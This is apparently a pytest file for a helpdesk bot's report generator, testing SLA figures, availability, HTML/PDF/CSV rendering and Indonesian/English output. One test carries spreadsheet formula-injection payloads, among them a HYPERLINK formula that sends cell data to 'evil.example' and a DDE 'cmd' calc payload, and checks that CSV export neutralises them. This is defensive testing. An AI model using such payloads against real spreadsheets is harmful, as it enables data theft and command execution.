"""Reports against hand-computed fixtures: a small, fully known set of records."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import UTC, date, datetime, timedelta

import pytest
from sqlmodel import Session, select

from bot.core import availability, tickets
from bot.core.tickets import Actor
from bot.i18n import catalogue
from bot.reports import KINDS, Report, Table, build_report, to_csv, to_html, to_pdf
from bot.reports.evidence import FORMS, build_pack, forms
from bot.runtime import Helpdesk
from storage.db import session_scope
from storage.models import Alert, Person, ServiceState, ServiceTechnician, Ticket
from tests.pinned import assert_pinned, without_images

TZ = "Asia/Jakarta"
# Monday 2 March 2026, 09:00 WIB = 02:00 UTC
T0 = datetime(2026, 3, 2, 2, 0, tzinfo=UTC)
NOW = datetime(2026, 3, 10, 2, 0, tzinfo=UTC)
START, END = date(2026, 3, 1), date(2026, 3, 7)


def _person(s: Session, role: str) -> Person:
    return next(p for p in s.exec(select(Person).order_by(Person.id)) if role in p.roles)


def _tech(s: Session, service: str) -> Person:
    return s.exec(
        select(Person)
        .join(ServiceTechnician, ServiceTechnician.person_id == Person.id)
        .where(ServiceTechnician.service_id == service)
        .order_by(Person.id)
    ).first()  # type: ignore[return-value]


def _set_dues(t: Ticket, response_min: int, resolution_min: int) -> None:
    """Fix the due times by hand, so the expected figures do not depend on calendars."""
    t.response_due_at = t.created_at + timedelta(minutes=response_min)
    t.resolution_due_at = t.created_at + timedelta(minutes=resolution_min)


@pytest.fixture
def records(helpdesk: Helpdesk) -> Helpdesk:
    """Three VPN incidents and one e-mail request in the week of 2 March 2026:
    A: P2, acked after 30 min (due 60), resolved after 4 h (due 8 h)   → both met
    B: P2, acked after 2 h (due 60 min), resolved after 10 h (due 8 h) → both breached
    C: P4, never acked, open (due 4 h / 48 h, both past at NOW)        → both breached
    D: request, acked 1 h, resolved 3 h (due 2 h / 24 h)               → both met
    """
    with session_scope(helpdesk.engine) as s:
        user = _person(s, "pengguna")
        vpn = Actor(_tech(s, "vpn"), "console")
        mail = Actor(_tech(s, "email"), "console")
        a = tickets.open_ticket(
            s,
            type_="gangguan",
            title="A",
            service_id="vpn",
            impact=1,
            urgency=2,
            reporter=user,
            now=T0,
        )
        b = tickets.open_ticket(
            s,
            type_="gangguan",
            title="B",
            service_id="vpn",
            impact=2,
            urgency=1,
            reporter=user,
            now=T0 + timedelta(hours=1),
        )
        c = tickets.open_ticket(
            s,
            type_="gangguan",
            title="C",
            service_id="vpn",
            impact=3,
            urgency=3,
            reporter=user,
            now=T0 + timedelta(hours=2),
        )
        d = tickets.open_ticket(
            s,
            type_="permintaan",
            title="D",
            service_id="email",
            impact=3,
            urgency=3,
            reporter=user,
            now=T0 + timedelta(days=1),
        )
        for t, (r, z) in ((a, (60, 480)), (b, (60, 480)), (c, (240, 2880)), (d, (120, 1440))):
            _set_dues(t, r, z)
        tickets.take(s, a, vpn, now=a.created_at + timedelta(minutes=30))
        tickets.resolve(
            s,
            a,
            vpn,
            resolution="profil diperbarui",
            root_cause="sertifikat",
            now=a.created_at + timedelta(hours=4),
        )
        tickets.take(s, b, vpn, now=b.created_at + timedelta(hours=2))
        tickets.hold_for_user(s, b, vpn, "log?", now=b.created_at + timedelta(hours=3))
        tickets.start_work(s, b, vpn, now=b.created_at + timedelta(hours=5))
        tickets.resolve(
            s,
            b,
            vpn,
            resolution="klien dipasang ulang",
            root_cause="klien rusak",
            now=b.created_at + timedelta(hours=10),
        )
        tickets.take(s, d, mail, now=d.created_at + timedelta(hours=1))
        tickets.resolve(
            s, d, mail, resolution="kotak surat dibuat", now=d.created_at + timedelta(hours=3)
        )
        for t in (
            a,
            b,
            c,
            d,
        ):  # the hooks of the SLA module may have moved them: put the fixture back
            _set_dues(
                t, *{"A": (60, 480), "B": (60, 480), "C": (240, 2880), "D": (120, 1440)}[t.title]
            )
            s.add(t)
        s.add(
            Alert(
                key="fixture",
                kind="ticket.new",
                ticket_id=b.id,
                service_id="vpn",
                priority=2,
                created_at=b.created_at,
            )
        )
    return helpdesk


def table(report, title: str) -> list[list]:  # type: ignore[no-untyped-def]
    return next(t for t in report.tables if t.title == title).rows


def test_evaluation_figures(records: Helpdesk) -> None:
    with Session(records.engine) as s:
        report = build_report("evaluation", s, start=START, end=END, tz=TZ, now=NOW)
    summary = dict((r[0], r[1]) for r in table(report, "Ringkasan"))
    assert summary["Tiket masuk"] == 4
    assert summary["Gangguan / permintaan / keluhan"] == "3 / 1 / 0"
    assert summary["Tiket selesai"] == 3
    # acks: 0.5 h, 2 h, 1 h → mean 1.1667; resolutions: 4 h, 10 h, 3 h → mean 5.6667
    assert summary["Rata-rata waktu tanggap (jam)"] == pytest.approx(1.17, abs=0.01)
    assert summary["Rata-rata waktu penyelesaian (jam)"] == pytest.approx(5.67, abs=0.01)
    # response: A met, B late, C late (unacked, past due), D met → 2 of 4
    assert summary["Kepatuhan SLA tanggap (%)"] == 50.0
    # resolution: A met, B late, C late, D met → 2 of 4
    assert summary["Kepatuhan SLA penyelesaian (%)"] == 50.0
    per = {(r[0], r[1]): r for r in table(report, "Kinerja per layanan dan prioritas")}
    vpn_p2 = next(v for k, v in per.items() if "VPN" in k[0] and k[1].startswith("P2"))
    assert vpn_p2[2:] == [2, 2, pytest.approx(1.25), pytest.approx(7.0), 50.0, 50.0]
    recurring = table(report, "Kategori yang berulang")
    assert recurring[0][1:] == [3, 75.0] and "VPN" in recurring[0][0]
    # volume and SLA per week of the period, then the SLA trend over 12 periods (issue #13)
    assert [c.title for c in report.charts] == [
        "Volume tiket",
        "Kepatuhan SLA",
        "Tren kepatuhan SLA",
    ]
    assert all(c.png.startswith(b"\x89PNG") for c in report.charts)


def test_exception_report_lists_every_breach_with_reasons(records: Helpdesk) -> None:
    with Session(records.engine) as s:
        report = build_report("exception", s, start=START, end=END, tz=TZ, now=NOW)
    rows = table(report, "Pelanggaran SLA")
    got = sorted((r[0], s_title) for r in rows for s_title in [r[1]])
    with Session(records.engine) as s:
        numbers = {t.title: t.number for t in s.exec(select(Ticket))}
    assert got == sorted(
        [
            ("SLA tanggap", numbers["B"]),
            ("SLA tanggap", numbers["C"]),
            ("SLA penyelesaian", numbers["B"]),
            ("SLA penyelesaian", numbers["C"]),
        ]
    )
    b_resolution = next(r for r in rows if r[1] == numbers["B"] and r[0] == "SLA penyelesaian")
    assert b_resolution[6] == pytest.approx(2.0)  # 10 h against 8 h
    # 2 h waiting, written the Indonesian way (it was "2.0 jam": one number format per language)
    assert "menunggu pengguna 2,0 jam" in b_resolution[7]
    c_response = next(r for r in rows if r[1] == numbers["C"] and r[0] == "SLA tanggap")
    assert c_response[5] == "belum" and "masih terbuka" in c_response[7]
    unacked = table(report, "Peringatan yang tidak diakui")
    assert len(unacked) == 1 and unacked[0][2] == "P2"


def test_availability_report(helpdesk: Helpdesk) -> None:
    # VPN monitored from 1 March 00:00 WIB; 1 h 30 min down and 2 h maintenance in the week
    since = datetime(2026, 2, 28, 17, 0, tzinfo=UTC)
    with session_scope(helpdesk.engine) as s:
        s.add(ServiceState(service_id="vpn", state="up", since=since, monitored_since=since))
        s.flush()
        availability.add_interval(s, "vpn", T0, T0 + timedelta(minutes=90), "down_s", TZ)
        availability.add_interval(
            s, "vpn", T0 + timedelta(days=2), T0 + timedelta(days=2, hours=2), "maintenance_s", TZ
        )
    with Session(helpdesk.engine) as s:
        report = build_report("availability", s, start=START, end=END, tz=TZ, now=NOW)
    rows = table(report, "Ketersediaan per layanan")
    # every active service of the catalogue (12) is listed: the 11 nobody monitors say so
    # (they used to vanish from the form)
    assert len(rows) == 12
    others = [r for r in rows if "VPN" not in r[0]]
    assert len(others) == 11 and {r[-1] for r in others} == {"tidak dipantau"}
    week = 7 * 24 * 3600
    expected = 100 * (1 - 5400 / (week - 7200))
    name, target, without, with_m, down_min, maint_min, _, meets = next(
        r for r in rows if "VPN" in r[0]
    )
    assert "VPN" in name and without == pytest.approx(expected, abs=0.001)
    assert with_m == pytest.approx(100 * (1 - 5400 / week), abs=0.001)
    assert (down_min, maint_min) == (90.0, 120.0)
    assert meets == ("ya" if expected >= float(target) else "tidak")


def test_renderers(records: Helpdesk) -> None:
    with Session(records.engine) as s:
        report = build_report("evaluation", s, start=START, end=END, tz=TZ, now=NOW)
    html = to_html(report)
    assert "<h1>Laporan Evaluasi Layanan SPBE</h1>" in html and "data:image/png;base64," in html
    assert to_pdf(report).startswith(b"%PDF")
    rows = list(csv.reader(io.StringIO(to_csv(report))))
    assert ["# Ringkasan"] in rows and ["Tiket masuk", "4"] in rows


def test_catalogue_and_static_documents(helpdesk: Helpdesk) -> None:
    with Session(helpdesk.engine) as s:
        cat = build_report("catalogue", s, start=START, end=END, tz=TZ, now=NOW)
        prio = build_report("priority", s, start=START, end=END, tz=TZ, now=NOW)
        cont = build_report("continuity", s, start=START, end=END, tz=TZ, now=NOW)
    assert len(cat.tables[0].rows) == 12 and all(
        all(c not in ("", None) for c in r) for r in cat.tables[0].rows
    )
    assert prio.tables[0].rows[0] == ["Dampak Tinggi", "P1 kritis", "P2 tinggi", "P3 sedang"]
    assert cont.tables[0].rows[0][1] == "tinggi"


def test_evidence_pack_has_every_form(records: Helpdesk) -> None:
    with Session(records.engine) as s:
        data = build_pack(s, start=START, end=END, tz=TZ, now=NOW)
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        names = set(zf.namelist())
        index = zf.read("index.html").decode()
    assert "index.html" in names
    for n, (form, kind) in enumerate(FORMS, start=1):
        assert {f"{n:02d}-{kind}.{ext}" for ext in ("html", "pdf", "csv")} <= names
        assert form in index


def _texts(report) -> set[str]:  # type: ignore[no-untyped-def]
    """Every text of a report that comes from the catalogues."""
    out = {report.title, report.intro, *report.notes}
    for s in report.sections:
        out.add(s.title)
        out.update(getattr(s, "headers", []))
    return out - {""}


def test_every_report_in_english(records: Helpdesk) -> None:
    same_in_both = {v for k, v in catalogue("id").items() if catalogue("en").get(k) == v}
    with Session(records.engine) as s:
        for kind in KINDS:
            args = {"start": START, "end": END, "tz": TZ, "now": NOW}
            indonesian = build_report(kind, s, **args)  # type: ignore[arg-type]
            english = build_report(kind, s, **args, lang="en")  # type: ignore[arg-type]
            assert (indonesian.lang, english.lang) == ("id", "en")
            assert [len(t.rows) for t in english.tables] == [len(t.rows) for t in indonesian.tables]
            left = (_texts(english) & _texts(indonesian)) - same_in_both
            assert not left, f"{kind}: still Indonesian in English: {left}"


def test_english_figures_and_renderers(records: Helpdesk) -> None:
    with Session(records.engine) as s:
        report = build_report("evaluation", s, start=START, end=END, tz=TZ, now=NOW, lang="en")
        prio = build_report("priority", s, start=START, end=END, tz=TZ, now=NOW, lang="en")
    summary = dict(r for r in next(t for t in report.tables if t.name == "summary").rows)
    assert summary["Tickets received"] == 4 and summary["Incidents / requests / complaints"] == (
        "3 / 1 / 0"
    )
    assert prio.tables[0].rows[0] == ["Impact High", "P1 critical", "P2 high", "P3 moderate"]
    html = to_html(report)
    assert '<html lang="en">' in html and "<h1>SPBE Service Evaluation Report</h1>" in html
    assert "Period 2026-03-01 to 2026-03-07" in html and "Dibuat" not in html
    assert to_pdf(report).startswith(b"%PDF")
    rows = list(csv.reader(io.StringIO(to_csv(report))))
    assert ["# period", "2026-03-01", "2026-03-07"] in rows and ["Tickets received", "4"] in rows


def test_exception_reasons_in_english(records: Helpdesk) -> None:
    with Session(records.engine) as s:
        report = build_report("exception", s, start=START, end=END, tz=TZ, now=NOW, lang="en")
        numbers = {t.title: t.number for t in s.exec(select(Ticket))}
    rows = next(t for t in report.tables if t.name == "breaches").rows
    b = next(r for r in rows if r[1] == numbers["B"] and r[0] == "Resolution SLA")
    assert "waiting for the user 2.0 hours" in b[7]
    c = next(r for r in rows if r[1] == numbers["C"] and r[0] == "Response SLA")
    assert c[5] == "not yet" and "still open (assigned)" in c[7]


def test_evidence_pack_in_english(records: Helpdesk) -> None:
    with Session(records.engine) as s:
        data = build_pack(s, start=START, end=END, tz=TZ, now=NOW, lang="en")
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        index = zf.read("index.html").decode()
        catalogue_page = zf.read("01-catalogue.html").decode()
    assert '<html lang="en">' in index and "<h1>SPBE Service Management Evidence</h1>" in index
    assert all(form in index for form, _ in forms("en")) and "Service catalogue" in index
    assert "<th>Technical managers</th>" in catalogue_page


FORMULAS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Klik di sini")',
    "+62 811 1234",
    "-2+3",
    "@SUM(A1:A9)",
    "\tjudul",
    "\rjudul",
]


def test_csv_cells_never_run_as_formulas(helpdesk: Helpdesk) -> None:
    """Titles a user typed reach the CSV as text: a spreadsheet opening it runs nothing."""
    with session_scope(helpdesk.engine) as s:
        user = _person(s, "pengguna")
        for n, title in enumerate(FORMULAS):
            ticket = tickets.open_ticket(
                s,
                type_="gangguan",
                title=title,
                service_id="vpn",
                reporter=user,
                now=T0 + timedelta(minutes=n),
            )
            tech = Actor(_tech(s, "vpn"), "console")
            tickets.take(s, ticket, tech, now=ticket.created_at + timedelta(minutes=5))
            tickets.resolve(
                s,
                ticket,
                tech,
                resolution="=cmd|' /C calc'!A0",
                root_cause="@konfigurasi",
                now=ticket.created_at + timedelta(hours=1),
            )
    with Session(helpdesk.engine) as s:
        report = build_report("incidents", s, start=START, end=END, tz=TZ, now=NOW)
    rows = list(csv.reader(io.StringIO(to_csv(report))))
    header = next(r for r in rows if r and r[0] == "Nomor")
    body = rows[rows.index(header) + 1 :]
    title_at, resolution_at = header.index("Judul"), header.index("Penyelesaian")
    assert sorted(r[title_at] for r in body) == sorted("'" + f for f in FORMULAS)
    assert {r[resolution_at] for r in body} == {"'=cmd|' /C calc'!A0"}
    assert {r[header.index("Akar masalah")] for r in body} == {"'@konfigurasi"}
    assert all(r[-1].isdigit() for r in body)  # the counts stay numbers


def test_csv_numbers_stay_numbers() -> None:
    report = Report(
        "x",
        "Uji",
        NOW,
        sections=[Table("Angka", ["Selisih", "Nilai"], [["-", -2.5], ["=1+1", -3], [None, 7]])],
    )
    rows = list(csv.reader(io.StringIO(to_csv(report))))
    assert rows[-3:] == [["'-", "-2.5"], ["'=1+1", "-3"], ["", "7"]]


@pytest.mark.parametrize("lang", ["id", "en"])
def test_evaluation_report_text_is_pinned(records: Helpdesk, lang: str) -> None:
    """The whole evaluation report, byte for byte, as HTML and CSV: whole period, one
    service, and a week without tickets (no charts, empty figures)."""
    with Session(records.engine) as s:
        whole = build_report("evaluation", s, start=START, end=END, tz=TZ, now=NOW, lang=lang)
        vpn = build_report(
            "evaluation", s, start=START, end=END, tz=TZ, now=NOW, service_id="vpn", lang=lang
        )
        empty = build_report(
            "evaluation",
            s,
            start=date(2026, 2, 1),
            end=date(2026, 2, 7),
            tz=TZ,
            now=NOW,
            lang=lang,
        )
    for name, report in (("whole", whole), ("vpn", vpn), ("empty", empty)):
        assert_pinned(f"evaluation-{name}.{lang}.csv", to_csv(report))
        assert_pinned(f"evaluation-{name}.{lang}.html", without_images(to_html(report)))
    assert [type(x).__name__ for x in whole.sections][-2:] == ["Chart", "Chart"]
    assert not empty.charts
